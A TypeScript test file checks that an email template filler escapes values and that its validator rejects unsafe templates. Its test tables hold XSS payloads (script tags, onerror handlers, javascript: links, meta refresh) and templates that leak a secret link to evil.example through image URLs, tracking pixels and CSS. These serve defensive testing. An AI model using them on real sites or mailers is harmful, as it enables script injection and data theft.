import fc from "fast-check";
import { expect, test } from "vitest";
import { templateProblems } from "./problems.rules";
import { fillTemplate } from "./rules";
import type { EmailText } from "./schema";

const template = { subject: "For {{ name }}", html: "<p>{{name}} / {{name}} / {{missing}}</p>" };

test("fills every occurrence and removes unknown variables", () => {
  expect(fillTemplate(template, { name: "Ada" })).toEqual({
    subject: "For Ada",
    html: "<p>Ada / Ada / </p>",
  });
});

test("no value can add a tag, an attribute or a header line", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 80 }), (name) => {
      const filled = fillTemplate({ subject: "{{name}}", html: "{{name}}" }, { name });
      expect(filled.html.replaceAll("<br>", "")).not.toMatch(/[<>"']/);
      expect(filled.subject).not.toMatch(/[\r\n]/);
    }),
  );
});

/** Tags with their attribute names, as a browser parses them. */
function structure(html: string): string[] {
  const tags = /<\/?([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>/gi;
  return [...html.matchAll(tags)]
    .map(([, tag = "", attributes = ""]) => {
      const names = attributes.matchAll(/([^\s=/"']+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]*))?/g);
      return [tag.toLowerCase(), ...[...names].map(([, name]) => name)].join(" ");
    })
    .filter((tag) => tag !== "br");
}

const hostile = fc.oneof(
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.constantFrom(
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "x onerror=alert(1)",
    "javascript:alert(1)",
    "</style><img src=x onerror=alert(1)>",
    "--><svg onload=alert(1)>",
    "{{link}}",
    "script",
    "&lt;b&gt;",
    "`onclick=alert(1)",
  ),
);

test.each([
  ["text", "<p>Hello {{name}}</p>"],
  ["an attribute in double quotes", '<a title="{{name}}">x</a>'],
  ["an attribute in single quotes", "<a title='{{name}}'>x</a>"],
  ["an attribute without quotes", "<a title={{name}}>x</a>"],
  ["an attribute position", "<p {{name}}>x</p>"],
  ["a tag position", "<{{name}}>x</{{name}}>"],
  ["a style element", "<style>p { color: {{name}} }</style><p>x</p>"],
  ["a comment", "<!-- {{name}} --><p>x</p>"],
])("no value changes the HTML's structure: in %s", (_, html) => {
  const plain = structure(fillTemplate({ subject: "", html }, { name: "Ada" }).html);
  fc.assert(
    fc.property(hostile, (name) => {
      const filled = structure(fillTemplate({ subject: "", html }, { name }).html);
      // A value in place of an attribute can become several attributes, but no event handler.
      if (html.startsWith("<p {{")) expect(filled.join(" ")).not.toMatch(/(^| )on\w+( |$)/);
      else expect(filled).toEqual(plain);
    }),
  );
});

test("removes links that could run a script", () => {
  const html = '<a href="{{link}}">x</a>';
  for (const link of [
    "javascript:alert(1)",
    " JaVa\nScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
  ]) {
    expect(fillTemplate({ subject: "", html }, { link }).html).toBe('<a href="">x</a>');
  }
  const link = "https://example.com/?a=1&b=2";
  expect(fillTemplate({ subject: "", html }, { link }).html).toBe(
    '<a href="https://example.com/?a&#61;1&amp;b&#61;2">x</a>',
  );
});

test("the plain text contains values unescaped and without control characters", () => {
  const own = { subject: "", html: "x", text: "Hello {{name}}" };
  expect(fillTemplate(own, { name: "A <b>\u0007\nda" }).text).toBe("Hello A <b>\nda");
  expect(fillTemplate({ subject: "", html: "x", text: "" }, {}).text).toBeUndefined();
});

test("unclosed quotes and elements neither break nor slow down filling in values", () => {
  const html = `${'<a title="'.repeat(5000)}{{name}}<style>{{name}}`;
  expect(fillTemplate({ subject: "", html }, { name: "<b>" }).html).not.toContain("<b>");
});

test("a value that looks like a variable stays text", () => {
  const values = { name: "{{link}}", link: "https://example.com" };
  expect(fillTemplate({ subject: "{{name}}", html: "{{name}}" }, values)).toEqual({
    subject: "{{link}}",
    html: "{{link}}",
  });
});

test("String.replace patterns in a value stay text", () => {
  expect(fillTemplate(template, { name: "$& $1 $$" }).subject).toBe("For $& $1 $$");
});

test("names of built-in object properties aren't variables", () => {
  const text = { subject: "{{constructor}}", html: "{{to_string}}" };
  expect(fillTemplate(text, {})).toEqual({ subject: "", html: "" });
});

const variables = [
  { name: "customer_name", means: "The name", sample: "Ada" },
  { name: "link", means: "Where to", sample: "https://example.com", needed: true },
];
const problemsOf = (html: string, more = {}) =>
  templateProblems({ subject: "Hello", html: `${html}{{link}}`, ...more }, variables);

test.each([
  ["{{customer_name}} and {{ customer_name }}", undefined],
  ["{{customer_nam}}", "{{customer_nam}} isn’t a variable. Choose one from the list."],
  ["{{Customer_Name}}", "{{Customer_Name}} isn’t a variable. Choose one from the list."],
  ["{{customer name}}", "{{customer name}} isn’t a variable. Choose one from the list."],
  ["{{}}", "Remove {{}}, or choose a variable from the list."],
  ["{{constructor}}", "{{constructor}} isn’t a variable. Choose one from the list."],
  ["{{customer_name} and more", "Add the missing }} here: {{customer_name} and more{{link}}"],
  ["{{customer_name", "Add the missing }} here: {{customer_name{{link}}"],
  ["customer_name}}", "Add the missing {{ here: customer_name}}"],
  ["{customer_name}}", "Add the missing {{ here: {customer_name}}"],
  ["<style>@media print{p{color:red}}</style>", undefined],
])("finds the problem with the variables in %j, if any", (html, problem) => {
  expect(problemsOf(html).html).toBe(problem);
});

test("reports problems by field", () => {
  expect(problemsOf("", { subject: "{{oops}}", text: "{{link}} {{name" })).toEqual({
    subject: "{{oops}} isn’t a variable. Choose one from the list.",
    text: "Add the missing }} here: {{name",
  });
});

test("an email can't be saved without a variable that it needs", () => {
  const without = templateProblems({ subject: "Hello", html: "<p>Nothing</p>" }, variables);
  expect(without.html).toContain("This email needs {{link}}");
  expect(problemsOf("", { text: "Nothing" }).text).toContain("This email needs {{link}}");
});

const secret = "https://guards.example.com/quote/secret";
const linkOnly = [{ name: "link", means: "", sample: "" }];
const problemsWith = (template: Partial<EmailText>) =>
  templateProblems({ subject: "Your quote", html: "<p>Hello</p>", ...template }, linkOnly);

test.each([
  '<img src="https://evil.example/c?u={{link}}">',
  "<img src={{link}}>",
  '<a href="https://evil.example/?u={{link}}">Open</a>',
  '<a href="https://evil.example" title="{{link}}">Open</a>',
  '<a data-href="{{link}}">Open</a>',
  '<area href="{{link}}">',
  '<p style="background: url({{link}})">Hello</p>',
  "<style>p { background: url({{link}}) }</style>",
  "<p>https://evil.example/?u={{link}}</p>",
  "<p>www.evil.example/{{ link }}</p>",
  "<p>https&colon;&#47;&#47;evil.example/?u={{link}}</p>",
])("a link isn't filled in or saved in %s", (html) => {
  expect(fillTemplate({ subject: "", html }, { link: secret }).html).not.toContain("secret");
  expect(problemsWith({ html }).html).toBeDefined();
});

test.each([
  '<a href="{{link}}">Open</a>',
  "<a class='x' href='{{ link }}'>Open</a>",
  "<a href={{link}}>{{link}}</a>",
  '<a href=" {{link}} ">Open</a>',
  "<p>Open this page: {{link}}</p>",
])("a link is filled in and saved in %s", (html) => {
  expect(fillTemplate({ subject: "", html }, { link: secret }).html).toContain("secret");
  expect(problemsWith({ html })).toEqual({});
});

test("a link isn't filled in or saved in the subject or behind another address in the text", () => {
  const template = { subject: "Quote {{link}}", html: "", text: "http://evil.example/{{link}}" };
  const { subject, text } = fillTemplate(template, { link: secret });
  expect([subject, text]).toEqual(["Quote", "http://evil.example/"]);
  expect(Object.keys(problemsWith(template))).toEqual(["subject", "text"]);
});

test.each([
  ["<script>alert(1)</script>", "<script>"],
  ["<FORM action=/x>Hello</FORM>", "<form>"],
  ["<iframe src=//evil.example></iframe>", "<iframe>"],
  ['<p onclick="alert(1)">Hello</p>', "scripts"],
  ['<img alt=""onerror=alert(1) src="x">', "scripts"],
  ['<img src="https://evil.example/pixel.gif">', "other websites"],
  ["<table background=//evil.example/x.png></table>", "other websites"],
  ["<p style=\"background: url('https://evil.example/x.png')\">Hello</p>", "other websites"],
  ['<img src="h&#116;tps&colon;//evil.example/pixel.gif">', "other websites"],
  ['<img src="https:\\\\evil.example/pixel.gif">', "other websites"],
  ['<img src="ht\ntps://evil.example/pixel.gif">', "other websites"],
  ['<a ping="//evil.example" href="/">Hello</a>', "other websites"],
  ['<p style="background: u\\72l(https://evil.example/x.png)">Hello</p>', "other websites"],
  ["<style>p{background:image-set('https://evil.example/x.png' 1x)}</style>", "other websites"],
  ['<a href="java&#115;cript:alert(1)">Hello</a>', "scripts"],
  ['<meta http-equiv="refresh" content="0;url=//evil.example">', "scripts"],
])("an email can't be saved with %s", (html, why) => {
  expect(problemsWith({ html }).html).toContain(why);
});
